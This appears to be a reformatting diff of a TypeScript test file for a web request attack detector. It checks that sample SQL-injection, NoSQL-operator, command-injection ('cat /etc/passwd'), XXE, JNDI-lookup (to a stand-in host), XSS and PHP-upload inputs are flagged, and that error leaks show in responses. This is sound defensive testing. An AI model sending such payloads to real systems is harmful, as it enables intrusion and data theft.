@@ -5,32 +5,143 @@ import { answerEvidence } from './answerEvidence.ts';
 import { isSuspect, requestSignatures } from './requestSignatures.ts';
 
 const ATTACK = "x' or 'a'='a";
-const body = (mediaType: string, text: string) => exampleExchange({ method: 'POST', requestBody: { mediaType, text, size: text.length } });
-const foundIn = (exchange: ReturnType<typeof exampleExchange>) => requestSignatures(exchange).flatMap(({ place: { location, name }, signatures }) => signatures.map(({ family }) => `${location} ${name} ${family}`));
+const body = (mediaType: string, text: string) =>
+  exampleExchange({ method: 'POST', requestBody: { mediaType, text, size: text.length } });
+const foundIn = (exchange: ReturnType<typeof exampleExchange>) =>
+  requestSignatures(exchange).flatMap(({ place: { location, name }, signatures }) =>
+    signatures.map(({ family }) => `${location} ${name} ${family}`),
+  );
 
 describe('ENG-04 signatures of a request', () => {
   const places: readonly (readonly [string, ReturnType<typeof exampleExchange>, string])[] = [
     ['path', exampleExchange({ path: '/users/7%27%20or%20%27a%27=%27a' }), 'path  sql'],
-    ['query', exampleExchange({ query: [['sort', 'name'], ['q', ATTACK]] }), 'query q sql'],
+    [
+      'query',
+      exampleExchange({
+        query: [
+          ['sort', 'name'],
+          ['q', ATTACK],
+        ],
+      }),
+      'query q sql',
+    ],
     ['header', exampleExchange({ requestHeaders: [['x-tenant', ATTACK]] }), 'header x-tenant sql'],
-    ['user agent', exampleExchange({ requestHeaders: [['user-agent', 'x; cat /etc/passwd']] }), 'header user-agent command'],
-    ['cookie', exampleExchange({ requestHeaders: [['cookie', `theme=dark; id=${ATTACK}`]] }), 'cookie id sql'],
-    ['credentials', exampleExchange({ requestHeaders: [['authorization', `Basic ${Buffer.from(`admin:${ATTACK}`).toString('base64')}`]] }), 'header authorization sql'],
-    ['JSON', { ...exampleExchange({ method: 'POST' }), requestBody: exampleJson({ items: [{ note: ATTACK }] }) }, 'body items[].note sql'],
-    ['JSON names', { ...exampleExchange({ method: 'POST' }), requestBody: exampleJson({ password: { $ne: '' } }) }, 'body password.$ne noSql'],
-    ['form', body('application/x-www-form-urlencoded', `a=1&b=${encodeURIComponent(ATTACK)}`), 'body b sql'],
-    ['multipart', body('multipart/form-data; boundary=p', `--p\r\nContent-Disposition: form-data; name="b"\r\n\r\n${ATTACK}\r\n--p--\r\n`), 'body b sql'],
-    ['file name', body('multipart/form-data; boundary=p', '--p\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx\r\n--p--\r\n'), 'body filename code'],
-    ['XML', body('application/xml', `<a><b c="${ATTACK.replaceAll("'", '&apos;')}">1</b></a>`), 'body a.b.@c sql'],
-    ['XML entities', body('application/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>'), 'body  xxe'],
+    [
+      'user agent',
+      exampleExchange({ requestHeaders: [['user-agent', 'x; cat /etc/passwd']] }),
+      'header user-agent command',
+    ],
+    [
+      'cookie',
+      exampleExchange({ requestHeaders: [['cookie', `theme=dark; id=${ATTACK}`]] }),
+      'cookie id sql',
+    ],
+    [
+      'credentials',
+      exampleExchange({
+        requestHeaders: [
+          ['authorization', `Basic ${Buffer.from(`admin:${ATTACK}`).toString('base64')}`],
+        ],
+      }),
+      'header authorization sql',
+    ],
+    [
+      'JSON',
+      {
+        ...exampleExchange({ method: 'POST' }),
+        requestBody: exampleJson({ items: [{ note: ATTACK }] }),
+      },
+      'body items[].note sql',
+    ],
+    [
+      'JSON names',
+      {
+        ...exampleExchange({ method: 'POST' }),
+        requestBody: exampleJson({ password: { $ne: '' } }),
+      },
+      'body password.$ne noSql',
+    ],
+    [
+      'form',
+      body('application/x-www-form-urlencoded', `a=1&b=${encodeURIComponent(ATTACK)}`),
+      'body b sql',
+    ],
+    [
+      'multipart',
+      body(
+        'multipart/form-data; boundary=p',
+        `--p\r\nContent-Disposition: form-data; name="b"\r\n\r\n${ATTACK}\r\n--p--\r\n`,
+      ),
+      'body b sql',
+    ],
+    [
+      'file name',
+      body(
+        'multipart/form-data; boundary=p',
+        '--p\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx\r\n--p--\r\n',
+      ),
+      'body filename code',
+    ],
+    [
+      'XML',
+      body('application/xml', `<a><b c="${ATTACK.replaceAll("'", '&apos;')}">1</b></a>`),
+      'body a.b.@c sql',
+    ],
+    [
+      'XML entities',
+      body('application/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>'),
+      'body  xxe',
+    ],
     ['text', body('text/plain', ATTACK), 'body  sql'],
-    ['operator with a number', { ...exampleExchange({ method: 'POST' }), requestBody: exampleJson({ price: { $gt: 0 }, active: { $ne: false } }) }, 'body price.$gt noSql'],
-    ['skipped header', exampleExchange({ requestHeaders: [['accept-encoding', 'gzip, ${jndi:ldap://elsewhere.example/a}']] }), 'header accept-encoding jndi'],
-    ['cookie in base64', exampleExchange({ requestHeaders: [['cookie', `theme=dark; cart=${Buffer.from('<script>alert(7)</script>').toString('base64')}`]] }), 'cookie cart xss'],
-    ['form in base64', body('application/x-www-form-urlencoded', `a=1&b=${Buffer.from('<script>alert(7)</script>').toString('base64')}`), 'body b xss'],
+    [
+      'operator with a number',
+      {
+        ...exampleExchange({ method: 'POST' }),
+        requestBody: exampleJson({ price: { $gt: 0 }, active: { $ne: false } }),
+      },
+      'body price.$gt noSql',
+    ],
+    [
+      'skipped header',
+      exampleExchange({
+        requestHeaders: [['accept-encoding', 'gzip, ${jndi:ldap://elsewhere.example/a}']],
+      }),
+      'header accept-encoding jndi',
+    ],
+    [
+      'cookie in base64',
+      exampleExchange({
+        requestHeaders: [
+          [
+            'cookie',
+            `theme=dark; cart=${Buffer.from('<script>alert(7)</script>').toString('base64')}`,
+          ],
+        ],
+      }),
+      'cookie cart xss',
+    ],
+    [
+      'form in base64',
+      body(
+        'application/x-www-form-urlencoded',
+        `a=1&b=${Buffer.from('<script>alert(7)</script>').toString('base64')}`,
+      ),
+      'body b xss',
+    ],
     ['XML with percent', body('application/xml', '<%0aimg src=x onerror=alert(7)>'), 'body  xss'],
-    ['picture that a server runs', body('multipart/form-data; boundary=p', '--p\r\nContent-Disposition: form-data; name="f"; filename="a.php.png"\r\n\r\nx\r\n--p--\r\n'), 'body filename code'],
-    ['operator in a name', exampleExchange({ query: [['password[$ne]', 'x']] }), 'query password[$ne] noSql'],
+    [
+      'picture that a server runs',
+      body(
+        'multipart/form-data; boundary=p',
+        '--p\r\nContent-Disposition: form-data; name="f"; filename="a.php.png"\r\n\r\nx\r\n--p--\r\n',
+      ),
+      'body filename code',
+    ],
+    [
+      'operator in a name',
+      exampleExchange({ query: [['password[$ne]', 'x']] }),
+      'query password[$ne] noSql',
+    ],
   ];
   for (const [what, exchange, found] of places) {
     test(`are found in its ${what}`, () => {
@@ -40,29 +151,63 @@ describe('ENG-04 signatures of a request', () => {
   }
 
   test('say little of relations in a name and of cookies by an old grammar', () => {
-    for (const exchange of [exampleExchange({ query: [['owner__team__secret__startswith', 'a']] }), exampleExchange({ requestHeaders: [['cookie', '$Version=1; a="b; c=d"']] })]) {
+    for (const exchange of [
+      exampleExchange({ query: [['owner__team__secret__startswith', 'a']] }),
+      exampleExchange({ requestHeaders: [['cookie', '$Version=1; a="b; c=d"']] }),
+    ]) {
       assert.equal(requestSignatures(exchange).length, 1);
       assert.equal(isSuspect(requestSignatures(exchange)), false);
     }
   });
 
-  test('leave a path whose last name is one of a script', () => assert.deepEqual(foundIn(exampleExchange({ path: '/manual/document.cookie' })), []));
+  test('leave a path whose last name is one of a script', () =>
+    assert.deepEqual(foundIn(exampleExchange({ path: '/manual/document.cookie' })), []));
 
-  test('name a scanner by its agent', () => assert.deepEqual(foundIn(exampleExchange({ requestHeaders: [['user-agent', 'sqlmap/1.7']] })), ['header user-agent scanner']));
+  test('name a scanner by its agent', () =>
+    assert.deepEqual(foundIn(exampleExchange({ requestHeaders: [['user-agent', 'sqlmap/1.7']] })), [
+      'header user-agent scanner',
+    ]));
 
   test('are none for what clients send every day', () => {
     const exchange = exampleExchange({
-      path: '/v2/orders/10001', query: [['page', '2'], ['sort', '-price,name'], ['updatedSince', '2026-04-10T08:00:00Z'], ['q', "women's shoes & bags"]],
-      requestHeaders: [['user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'], ['accept', 'text/html,*/*;q=0.8'], ['sec-ch-ua', '"Chromium";v="131", "Not_A Brand";v="24"'], ['referer', 'https://shop.example/search?q=a&b=c#top'], ['cookie', '_ga=GA1.2.123.456; theme=dark; consent={"ads":false}'], ['authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2ln'], ['if-none-match', 'W/"0815"']],
-      requestBody: exampleJson({ note: "Don't ring; leave it at the door (left side)", html: '<p>Hello</p>', amount: 4.5 }),
+      path: '/v2/orders/10001',
+      query: [
+        ['page', '2'],
+        ['sort', '-price,name'],
+        ['updatedSince', '2026-04-10T08:00:00Z'],
+        ['q', "women's shoes & bags"],
+      ],
+      requestHeaders: [
+        [
+          'user-agent',
+          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
+        ],
+        ['accept', 'text/html,*/*;q=0.8'],
+        ['sec-ch-ua', '"Chromium";v="131", "Not_A Brand";v="24"'],
+        ['referer', 'https://shop.example/search?q=a&b=c#top'],
+        ['cookie', '_ga=GA1.2.123.456; theme=dark; consent={"ads":false}'],
+        ['authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2ln'],
+        ['if-none-match', 'W/"0815"'],
+      ],
+      requestBody: exampleJson({
+        note: "Don't ring; leave it at the door (left side)",
+        html: '<p>Hello</p>',
+        amount: 4.5,
+      }),
     });
     assert.deepEqual(foundIn(exchange), []);
   });
 
   test('are found however deep and far behind they hide, under names that stay short', () => {
     for (const depth of [90, 3_000]) {
-      const nested = Array.from({ length: depth }, () => 'hidden').reduce<unknown>((inner, name) => ({ [name]: inner }), ATTACK);
-      const found = requestSignatures({ ...exampleExchange({ method: 'POST' }), requestBody: exampleJson([...Array.from({ length: 9_000 }, () => 'lamp'), nested]) });
+      const nested = Array.from({ length: depth }, () => 'hidden').reduce<unknown>(
+        (inner, name) => ({ [name]: inner }),
+        ATTACK,
+      );
+      const found = requestSignatures({
+        ...exampleExchange({ method: 'POST' }),
+        requestBody: exampleJson([...Array.from({ length: 9_000 }, () => 'lamp'), nested]),
+      });
       assert.ok(isSuspect(found));
       for (const { place } of found) assert.ok(place.name.length <= 201);
     }
@@ -70,7 +215,10 @@ describe('ENG-04 signatures of a request', () => {
 
   test('weigh by what was learned of the field', () => {
     const exchange = exampleExchange({ query: [['q', ATTACK]] });
-    const asFreeText = requestSignatures(exchange, () => ({ charClasses: ['lower', 'upper', 'space', 'punctuation', 'equals'], length99: 200 }));
+    const asFreeText = requestSignatures(exchange, () => ({
+      charClasses: ['lower', 'upper', 'space', 'punctuation', 'equals'],
+      length99: 200,
+    }));
     assert.equal(isSuspect(requestSignatures(exchange)), true);
     assert.equal(isSuspect(asFreeText), false);
   });
@@ -78,10 +226,22 @@ describe('ENG-04 signatures of a request', () => {
 
 describe('ENG-04 an answer shows', () => {
   const shown: readonly (readonly [string, string])[] = [
-    ['You have an error in your SQL syntax near', 'SQL error'], ['Traceback (most recent call last):', 'stack trace'], ['java.lang.NullPointerException', 'stack trace'], ['<title>Index of /backup</title>', 'directory listing'],
-    ['root:x:0:0:root:/root:/bin/sh', 'file of the system'], ['uid=33(www-data) gid=33(www-data)', 'command output'], ['<?php echo 1; ?>', 'source code'],
+    ['You have an error in your SQL syntax near', 'SQL error'],
+    ['Traceback (most recent call last):', 'stack trace'],
+    ['java.lang.NullPointerException', 'stack trace'],
+    ['<title>Index of /backup</title>', 'directory listing'],
+    ['root:x:0:0:root:/root:/bin/sh', 'file of the system'],
+    ['uid=33(www-data) gid=33(www-data)', 'command output'],
+    ['<?php echo 1; ?>', 'source code'],
   ];
-  for (const [text, evidence] of shown) test(evidence, () => assert.ok(answerEvidence({ mediaType: 'text/html', text, size: text.length }).some((one) => one === evidence)));
+  for (const [text, evidence] of shown)
+    test(evidence, () =>
+      assert.ok(
+        answerEvidence({ mediaType: 'text/html', text, size: text.length }).some(
+          (one) => one === evidence,
+        ),
+      ),
+    );
 
   test('markup that was sent and came back, and nothing where nothing is', () => {
     const page = { mediaType: 'text/html', text: 'You searched for <b onx=a>', size: 25 };
